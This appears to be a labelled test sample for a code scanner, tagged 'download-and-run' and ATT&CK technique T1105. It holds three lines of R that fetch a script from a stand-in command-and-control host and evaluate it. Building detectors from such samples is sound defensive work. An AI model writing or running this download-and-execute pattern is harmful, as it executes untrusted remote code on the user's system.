# expect: download-and-run | source: T1105
r <- httr::GET("https://c2.example.invalid/a.R")
eval(parse(text = httr::content(r, "text")))
